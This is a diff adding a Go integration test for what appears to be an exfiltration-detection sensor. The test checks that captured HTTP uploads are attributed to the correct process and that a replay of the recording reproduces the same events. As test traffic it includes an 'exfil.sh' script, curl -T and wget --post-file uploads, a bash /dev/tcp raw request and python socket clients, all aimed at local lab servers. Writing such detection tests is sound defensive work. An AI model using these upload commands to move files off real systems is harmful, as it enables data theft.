@@ -253,3 +253,130 @@ func waitFor(t *testing.T, b *bytes.Buffer, s string) {
 		time.Sleep(50 * time.Millisecond)
 	}
 }
+
+// TestRunAttributesProcesses checks, on live traffic from real clients, that
+// each upload names the process that made it — its pid, executable and
+// arguments, and the shell script above it — including a process that lives
+// well under 50 ms and two clients reusing the same local port; then that
+// `replay DIR` of the recording gives the same events.
+func TestRunAttributesProcesses(t *testing.T) {
+	requireRoot(t)
+	bin := buildBinary(t)
+	l := newLab(t, 201)
+	l.httpServer(8080)
+	l.httpServer(8081)
+	dir := t.TempDir()
+	recDir := filepath.Join(dir, "rec")
+	evFile := filepath.Join(dir, "live.jsonl")
+	var stderr bytes.Buffer
+	sensor := l.in(l.host, bin, "--log-format", "json", "run", "--interface", l.hostIf, "--events", evFile, "--record", recDir)
+	sensor.Stderr = &stderr
+	if err := sensor.Start(); err != nil {
+		t.Fatal(err)
+	}
+	waitFor(t, &stderr, `"message":"capturing"`)
+	time.Sleep(300 * time.Millisecond)
+	url := fmt.Sprintf("http://%s:8080", l.remIP)
+	payload := filepath.Join(dir, "report.pdf")
+	os.WriteFile(payload, bytes.Repeat([]byte("%PDF-1.7 quarterly numbers "), 500), 0o644)
+
+	type client struct {
+		target string
+		cmd    []string
+		exe    string // suffix of process.executable
+		arg    string // an argument process.args must hold
+		parent string // process.parent.name, when checked
+		pid    int
+	}
+	script := filepath.Join(dir, "exfil.sh")
+	os.WriteFile(script, []byte("#!/bin/sh\ncurl -s -o /dev/null -T "+payload+" "+url+"/put/from-script\n"), 0o755)
+	clients := []*client{
+		{target: "/put/curl", cmd: []string{"curl", "-s", "-o", "/dev/null", "-T", payload, url + "/put/curl"}, exe: "curl", arg: "-T"},
+		// wget posts twice, 30 ms apart: the first upload's process lives
+		// about 40 ms after it.
+		{target: "/upload/wget", cmd: []string{"wget", "-q", "-O", "/dev/null", "--wait=0.03", "--post-file=" + payload, url + "/upload/wget", url + "/upload/wget2"}, exe: "wget", arg: "--post-file=" + payload},
+		// A one-shot client that lives about 35 ms in all (well under 50).
+		{target: "/put/short", cmd: []string{"bash", "-c", fmt.Sprintf(`exec 3<>/dev/tcp/%s/8080; printf 'PUT /put/short HTTP/1.1\r\nHost: x\r\nContent-Length: 5\r\n\r\nhello' >&3; sleep 0.03 3>&-`, l.remIP)}, exe: "bash", arg: "-c"},
+		{target: "/put/from-script", cmd: []string{"/bin/sh", script}, exe: "curl", arg: "-T", parent: "sh"},
+		// Two clients, one after the other, from the same local port.
+		{target: "/put/port-a", cmd: []string{"python3", "-S", "-c", fmt.Sprintf(`import socket,time;s=socket.socket();s.setsockopt(socket.SOL_SOCKET,socket.SO_REUSEADDR,1);s.bind(("%s",45999));s.connect(("%s",8080));s.sendall(b"PUT /put/port-a HTTP/1.1\r\nHost: x\r\nContent-Length: 10\r\n\r\n0123456789");s.recv(100);time.sleep(0.03)`, l.hostIP, l.remIP)}, exe: "python3", arg: "-c"},
+		{target: "/put/port-b", cmd: []string{"python3", "-S", "-c", fmt.Sprintf(`import socket,time;s=socket.socket();s.setsockopt(socket.SOL_SOCKET,socket.SO_REUSEADDR,1);s.bind(("%s",45999));s.connect(("%s",8081));s.sendall(b"PUT /put/port-b HTTP/1.1\r\nHost: x\r\nContent-Length: 10\r\n\r\n0123456789");s.recv(100);time.sleep(0.03)`, l.hostIP, l.remIP)}, exe: "python3", arg: "-c"},
+	}
+	for _, c := range clients {
+		cmd := l.in(l.host, c.cmd...)
+		start := time.Now()
+		if out, err := cmd.CombinedOutput(); err != nil {
+			t.Fatalf("%v: %v %s", c.cmd, err, out)
+		}
+		t.Logf("%s lived %v", c.target, time.Since(start))
+		// ip netns exec execs the client in place: the pid is the client's.
+		c.pid = cmd.ProcessState.Pid()
+		if c.parent == "sh" {
+			c.pid = 0 // curl is the shell's child; its pid is not known here
+		}
+		time.Sleep(200 * time.Millisecond)
+	}
+	time.Sleep(time.Second)
+	sensor.Process.Signal(syscall.SIGINT)
+	if err := sensor.Wait(); err != nil {
+		t.Fatalf("run: %v\n%s", err, stderr.String())
+	}
+	evs := readEvents(t, evFile)
+	byTarget := map[string]map[string]any{}
+	for _, e := range evs {
+		if get(e, "event", "dataset") == "http" {
+			byTarget[get(e, "url", "original").(string)] = e
+		}
+	}
+	for _, c := range clients {
+		e := byTarget[c.target]
+		if e == nil {
+			t.Errorf("%s: no http event", c.target)
+			continue
+		}
+		if get(e, "exfilwatch", "attribution", "status") != "attributed" {
+			t.Errorf("%s: not attributed: %v", c.target, get(e, "exfilwatch", "attribution"))
+			continue
+		}
+		exe, _ := get(e, "process", "executable").(string)
+		args, _ := get(e, "process", "args").([]any)
+		hasArg := false
+		for _, a := range args {
+			hasArg = hasArg || a == c.arg
+		}
+		if !strings.HasPrefix(filepath.Base(exe), c.exe) || !hasArg {
+			t.Errorf("%s: process %v %v, want executable *%s with argument %q", c.target, exe, args, c.exe, c.arg)
+		}
+		if c.pid != 0 && get(e, "process", "pid") != float64(c.pid) {
+			t.Errorf("%s: pid %v, want %d", c.target, get(e, "process", "pid"), c.pid)
+		}
+		if c.parent != "" && get(e, "process", "parent", "name") != c.parent {
+			t.Errorf("%s: parent %v, want %s", c.target, get(e, "process", "parent"), c.parent)
+		}
+	}
+	// The recording replays to the same events, attribution included.
+	replayed := filepath.Join(dir, "replayed.jsonl")
+	if out, err := exec.Command(bin, "replay", "--no-summary", "--events", replayed, recDir).CombinedOutput(); err != nil {
+		t.Fatalf("replay %s: %v %s", recDir, err, out)
+	}
+	strip := func(evs []map[string]any) []string {
+		var out []string
+		for _, e := range evs {
+			if x, ok := e["exfilwatch"].(map[string]any); ok {
+				delete(x, "pcap")
+			}
+			b, _ := json.Marshal(e)
+			out = append(out, string(b))
+		}
+		return out
+	}
+	live, rep := strip(evs), strip(readEvents(t, replayed))
+	if len(live) != len(rep) {
+		t.Fatalf("replay gave %d events, live %d", len(rep), len(live))
+	}
+	for i := range live {
+		if live[i] != rep[i] {
+			t.Fatalf("event %d differs:\nlive   %s\nreplay %s", i, live[i], rep[i])
+		}
+	}
+}
